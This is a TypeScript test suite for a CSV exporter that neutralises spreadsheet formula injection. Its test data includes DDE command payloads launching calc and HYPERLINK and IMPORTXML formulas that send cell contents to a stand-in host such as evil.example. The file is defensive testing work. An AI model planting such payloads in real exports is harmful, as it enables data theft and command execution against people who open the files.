// What strangers wrote can't run anything on the desk of whoever opens the table.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { csvLine, toCsv } from './csv.ts';

const SIGNS = ['=', '+', '-', '@', '|', '%', '＝', '＋', '－', '＠'];
const SKIPPED = [
  '',
  ' ',
  '  ',
  '\t',
  '\r',
  '\n',
  '"',
  "'",
  '\u00a0', // no-break space
  '\u00ad', // soft hyphen
  '\u200b', // zero-width space
  '\u200d', // zero-width joiner
  '\u2060', // word joiner
  '\u3000', // a space as wide as a sign
  '\ufeff', // byte order mark
  '\u0001',
  '\u200b "',
];
const FORMULAS = [
  ...SIGNS.flatMap((sign) => SKIPPED.map((before) => `${before}${sign}1+1`)),
  ...SIGNS,
  '\tword',
  '\rword',
  '\nword',
  '@SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example?"&A1,"x")',
  "-2+3+cmd|' /C calc'!A0",
  '=1+1,=2+2',
  '=1+1"\r\n=2+2',
  '|cmd',
  '%0A=1',
  '=IMPORTXML(CONCAT("http://x",A1),"//a")',
];

test('no formula stays one, and nothing breaks out of its cell', () => {
  for (const formula of FORMULAS) {
    const cells = parse(csvLine([formula, 'next']))[0] as string[];
    assert.equal(cells.length, 2, JSON.stringify(formula));
    assert.doesNotMatch(cells[0]!, /^[\s\p{Cc}\p{Cf}]*[=+\-@＝＋－＠|%]/u, JSON.stringify(formula));
    assert.equal(cells[0]!.slice(1), formula);
    assert.equal(cells[1], 'next');
  }
});

test('a whole table makes them inert too, in its header as well', () => {
  for (const formula of FORMULAS) {
    const [header, row] = parse(toCsv([{ [formula]: formula }])) as string[][];
    assert.deepEqual([header, row], [[`'${formula}`], [`'${formula}`]]);
  }
});

test('ordinary words and addresses are exported as they are', () => {
  for (const text of [
    'Ada',
    'ada@example.com',
    'a-b',
    '50 %',
    "O'Brien",
    'rye, two "loaves"',
    'line\nbreak',
    'Zürich',
    ' spaces ',
    '\u200bword',
  ])
    assert.equal((parse(csvLine([text]))[0] as string[])[0], text);
});

test('a number stays a number, nothing stays empty, and a negative number as text is text', () => {
  assert.equal(csvLine([-3, 0.5, -1e21, true, null, undefined, '']), '-3,0.5,-1e+21,true,,,\r\n');
  assert.equal(csvLine(['-3']), "'-3\r\n");
  assert.equal(csvLine([{ spam: -1 }]), '"{""spam"":-1}"\r\n');
});

test('a table has the columns of its first row, and no rows are no table', () => {
  assert.equal(
    toCsv([
      { name: 'a', visits: 1 },
      { visits: 2, name: 'b' },
    ]),
    'name,visits\r\na,1\r\nb,2\r\n',
  );
  assert.equal(toCsv([]), '');
});
